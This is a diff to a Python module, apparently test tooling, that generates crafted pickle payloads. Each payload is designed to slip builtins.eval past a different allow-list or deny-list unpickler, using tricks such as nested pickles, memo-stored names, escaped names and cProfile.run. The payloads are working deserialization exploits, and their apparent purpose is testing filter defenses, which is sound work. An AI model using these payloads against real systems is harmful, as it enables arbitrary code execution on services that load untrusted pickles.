@@ -10,8 +10,11 @@ def reduce(source: str, protocol: int = 4) -> bytes:
     return _start(protocol) + _call(_name("builtins", "eval", protocol), _text(source, protocol)) + b"."
 
 
-def payloads(source: str, path: str, product: str) -> dict[str, bytes]:
-    """Named pickles; a name tells the road, and so the kind of allow-list or deny-list that it is made for."""
+def payloads(source: str, path: str, product: str, helper: str = "") -> dict[str, bytes]:
+    """Named pickles; a name tells the road, and so the kind of allow-list or deny-list that it is made for.
+
+    `helper` is a module whose import is an effect.
+    """
     text = _text(source)
     evaluate = _name("builtins", "eval")
     shell = f"echo $(({product}))>{path}"
@@ -36,7 +39,14 @@ def payloads(source: str, path: str, product: str) -> dict[str, bytes]:
         "as a key": b"}(" + _call(evaluate, text) + _text("user") + b"u",
         "build": _name("builtins", "Exception") + b")R}(" + _text("x") + _call(evaluate, text) + b"ub",
         "popped, then plain data": _call(evaluate, text) + b"0}(" + _text("user") + _text("ada") + b"u",
+        "a pickle within": _call(_name("pickle", "loads"), _bytes(_start(4) + _call(evaluate, text) + b".")),
+        "names from the memo": _by_memo(text),
+        "escaped names": b"V\\u0062uiltins\nV\\u0065val\n\x93" + b"(" + text + b"tR",
+        "behind plain data": b"}." + _start(4) + _call(evaluate, text),
+        "profiled": _call(_name("cProfile", "run"), text),
     }
+    if helper:
+        found |= {f"a module's {name}": _name(helper, name) for name in ("dict", "run", "x")}
     for module in ("collections", "datetime", "decimal", "solution", "__main__"):
         found[f"dotted name in {module}"] = _call(_call(_name(module, "__builtins__.get"), _text("eval")), text)
     made = {name: data if name.startswith("eval,") else _start(4) + data + b"." for name, data in found.items()}
@@ -48,6 +58,16 @@ def _by_operator(module: str, function: str, text: bytes) -> bytes:
     names = _call(_call(_name("operator", "attrgetter"), _text("__globals__")), _name(module, function))
     builtins = _call(_name("operator", "getitem"), names, _text("__builtins__"))
     return _call(_call(_name("operator", "getitem"), builtins, _text("eval")), text)
+
+
+def _by_memo(text: bytes) -> bytes:
+    """Both names are remembered first, and a harmless pair stands in front of the opcode that takes them."""
+    remembered = _text("builtins") + b"\x940" + _text("eval") + b"\x940" + _text("collections") + b"0"
+    return remembered + _text("OrderedDict") + b"0h\x00h\x01\x93(" + text + b"tR"
+
+
+def _bytes(data: bytes) -> bytes:
+    return b"B" + struct.pack("<I", len(data)) + data
 
 
 def _by_method(text: bytes) -> bytes:
